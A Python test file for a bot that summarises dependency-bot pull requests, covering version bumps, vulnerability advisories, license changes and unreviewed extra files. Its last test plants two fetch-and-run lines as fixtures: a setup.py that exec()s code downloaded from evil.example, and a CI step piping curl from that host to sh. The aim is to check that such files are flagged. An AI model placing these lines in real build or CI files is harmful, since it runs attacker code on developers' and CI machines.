"""A dependency bot opens a pull request: what it updates is told in one short review, without the
model and without comments on lines."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from redis.asyncio import Redis

from bot.domain.model import Report
from bot.sandbox.state import Advisory, Dependency
from tests.flows.environment import REPO, World, running
from tests.support.llm_server import LLMServer

FIXED, NEW = "GHSA-35jh-r3h4-6jhm", "GHSA-jf85-cpcp-j695"
ADVISORIES = {
    FIXED: Advisory(id=FIXED, package="lodash", versions=("4.17.20",), summary="Injection"),
    NEW: Advisory(id=NEW, package="ws", versions=("8.1.0",), summary="DoS"),
}


def package_json(lodash: str, ws: str) -> dict[str, str | None]:
    return {"package.json": f'{{"dependencies": {{\n"lodash": "^{lodash}",\n"ws": "{ws}"\n}}}}\n'}


def named(lodash: str, ws: str, license: str = "MIT") -> tuple[Dependency, ...]:
    return tuple(
        Dependency(manifest=path, ecosystem="npm", name=name, version=version, license=license)
        for path in ("package.json", "package-lock.json")
        for name, version in (("lodash", lodash), ("ws", ws))
    )


@pytest.fixture
async def world(
    redis_url: str, redis: "Redis", tmp_path: Path, llm: LLMServer
) -> AsyncIterator[World]:
    async with running(redis_url, redis, tmp_path, **llm.settings) as world:
        world.repository.dependencies = {}
        world.sandbox.state.advisories = ADVISORIES
        yield world


async def opened(world: World, more: dict[str, str | None], author: str, config: str = "") -> int:
    """A pull request that updates two packages, and does `more`."""
    before = package_json("4.17.20", "8.0.0") | {
        "package-lock.json": "{}\n",
        ".github/glossator.yml": config,
    }
    base = await world.sandbox.commit(REPO, dict(before), message="Begin")
    after = package_json("4.17.21", "8.1.0") | {"package-lock.json": '{"a": 1}\n'} | more
    head = await world.sandbox.commit(REPO, after, parent=base, message="Bump")
    if world.repository.dependencies is not None:
        world.repository.dependencies[base] = named("4.17.20", "8.0.0")
        world.repository.dependencies[head] = named("4.17.21", "8.1.0", "ISC")
    number = await world.sandbox.open_pull(REPO, base, head, author=author)
    await world.settle()
    return number


async def report_of(world: World) -> Report:
    report = await world.store.stage_data.report(world.check_runs[-1].external_id)
    assert report is not None
    return report


async def test_what_it_updates_is_one_short_review(world: World, llm: LLMServer) -> None:
    await opened(world, {}, "dependabot[bot]")
    [review] = world.reviews
    assert (
        "**dependabot\\[bot\\] changes 2 dependencies. It fixes 1 known vulnerability. It brings 1 "
        "known vulnerability.**"
    ) in review.body
    files = "(`package-lock.json`, `package.json`)"
    assert (
        f"- `ws` 8.0.0 → 8.1.0 {files}; brings {NEW} (high: DoS); license MIT → ISC\n"
        f"- `lodash` 4.17.20 → 4.17.21 {files}; fixes {FIXED} (high: Injection); "
        "license MIT → ISC\n"
    ) in review.body
    assert world.inline_comments == []
    assert llm.requests == []
    report = await report_of(world)
    assert [finding.title for finding in report.findings] == ["ws 8.1.0 is vulnerable: DoS"]
    assert (report.complete, report.conclusion) == (True, "neutral")
    summary = world.check_runs[-1].output["summary"]
    assert summary is not None
    assert "`ws` 8.0.0 → 8.1.0" in summary


async def test_what_else_it_changes_is_told_and_not_called_reviewed(
    world: World, llm: LLMServer
) -> None:
    world.repository.dependencies = None
    number = await opened(world, {"src/x.py": "x = 1\n"}, "renovate[bot]")
    [review] = world.reviews
    assert "It also changes `src/x.py`, which was not reviewed." in review.body
    # GitHub does not have the dependency review there: what lines say has to do.
    assert "- `lodash` 4.17.20 → 4.17.21 (`package.json`)\n" in review.body
    assert "GitHub did not tell which vulnerabilities it fixes or brings." in review.body
    report = await report_of(world)
    assert (report.complete, report.conclusion) == (False, "neutral")
    assert llm.requests == []
    # A person who wants it read has it read.
    await world.sandbox.comment(REPO, number, "/review")
    await world.settle()
    assert llm.requests != []


async def test_a_repository_may_have_them_left_alone(world: World, llm: LLMServer) -> None:
    await opened(world, {}, "dependabot[bot]", "dependency_bots: []\n")
    assert world.reviews == []
    assert world.check_runs[-1].conclusion == "skipped"


async def test_code_in_a_manifest_is_not_called_reviewed(world: World) -> None:
    code: dict[str, str | None] = {
        "setup.py": "exec(urlopen('https://evil.example').read())\n",
        ".github/workflows/ci.yml": "steps:\n- run: curl https://evil.example | sh\n",
    }
    await opened(world, code, "dependabot[bot]", "fail_incomplete: true\n")
    [review] = world.reviews
    files = "`.github/workflows/ci.yml`, `setup.py`"
    assert f"It also changes {files}, which was not reviewed." in review.body
    report = await report_of(world)
    assert (report.complete, report.conclusion) == (False, "failure")
